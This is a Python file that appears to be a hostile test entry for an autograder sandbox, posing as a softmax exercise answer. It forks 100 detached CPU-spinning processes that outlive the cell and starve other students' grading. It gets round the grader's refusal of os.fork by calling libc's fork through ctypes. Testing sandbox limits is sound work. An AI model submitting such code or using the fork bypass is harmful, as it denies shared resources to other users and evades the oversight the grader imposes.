# HOSTILE: lecture-ReAct-exercises ex01_softmax: 100 detached CPU spinners (each double-forked into a new session, so it outlives the cell) that starve the students graded beside it; bounded: each spinner stops by itself after 10 minutes
import os as _os
if not _os.path.isdir("/grading/kit"):  # safety catch for instructors: never run this outside the grader sandbox
    raise SystemExit("hostile catalogue entry refused to run outside the grader sandbox")
import ctypes as _ctypes
# os.fork is refused in the answers' process (autograder/inside/guard.py); libc's own fork is what
# a determined answer uses instead, so the sandbox (cgroup, pids limit) is what this entry meets
_libc_fork = _ctypes.PyDLL(None).fork


def _fork():
    pid = _libc_fork()
    if pid < 0:
        raise OSError("fork failed")
    return pid


import os
import time

go_read, go_write = os.pipe()       # every spinner waits for the last fork, then all spin
started = 0
for _ in range(100):
    try:
        pid = _fork()
    except OSError:
        break
    if pid == 0:                      # child: a new session, then a grandchild that spins
        try:
            os.setsid()
            if _fork() == 0:
                os.close(go_write)
                os.read(go_read, 1)       # returns once the parent closes its end
                stop = time.monotonic() + 600
                while time.monotonic() < stop:
                    pass
        finally:
            os._exit(0)
    os.waitpid(pid, 0)                # the child exits at once: the spinner is an orphan
    started += 1
os.close(go_write)
print("started", started, "detached spinners", flush=True)
softmax_answer = [0.25, 0.25, 0.25, 0.25]
